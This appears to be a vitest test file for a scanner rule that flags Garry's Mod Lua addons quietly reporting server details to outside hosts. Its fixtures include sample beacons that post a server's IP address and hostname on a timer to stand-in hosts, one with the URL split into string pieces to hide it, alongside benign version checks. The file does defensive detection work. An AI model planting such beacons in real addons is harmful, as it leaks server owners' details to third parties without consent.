// Valid and invalid cases of the `server_beacon` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './server_beacon.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('server_beacon', () => {
  it('server address posted on a timer', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Create("b", 240, 0, function() http.Post("https://a.invalid/_/api.php", {ip = game.GetIPAddress(), name = GetHostName()}) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('version check', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://raw.invalid/v.txt", function(b) print(tonumber(b)) end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('the server reported every 10 s to a URL put together from pieces', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local u = table.concat({ "ht", "tps://", "vs", "kp", ".invalid", "/ping" })',
        'timer.Create("vs", 10, 0, function() http.Post(u, { h = GetHostName(), p = GetConVarString("hostport") }) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a version check once, its URL joined from a base and a path', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local base = "https://raw.invalid/"\ntimer.Simple(10, function() http.Fetch(base .. "version.txt", function(b) MyAddon.Latest = tonumber(b) end) end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('reports players queue for a Discord webhook, sent on a timer', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_reports.lua': [
        'Reports = Reports or { queue = {}, hook = "https://discord.com/api/webhooks/1/x" }',
        'util.AddNetworkString("report")',
        'net.Receive("report", function(len, ply) table.insert(Reports.queue, ply:Nick() .. ": " .. string.sub(net.ReadString(), 1, 200)) end)',
        'timer.Create("reports", 30, 0, function()',
        ' if #Reports.queue == 0 then return end',
        ' HTTP({ url = Reports.hook, method = "POST", body = util.TableToJSON({ content = table.concat(Reports.queue, "\\n") }) })',
        ' Reports.queue = {}',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("the server's name posted on a timer to the webhook the owner sets in a settings file (low)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_relay.lua': [
        'local cfg = { webhook = "" }',
        'local raw = file.Read("relay/config.json", "DATA")',
        'if raw then cfg = util.JSONToTable(raw) or cfg end',
        'timer.Create("relay", 15, 0, function()',
        '  HTTP({ url = cfg.webhook, method = "POST", body = util.TableToJSON({ username = GetHostName() }) })',
        'end)',
      ].join('\n'),
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBe(RANK.low);
  });
  it("the server's name posted on a timer to a host the addon builds in code not followed (medium)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_relay.lua': [
        'timer.Create("relay", 15, 0, function()',
        '  http.Post(Epochs.Decode(Epochs.LIST) .. "/list", { name = GetHostName() })',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
  });
});
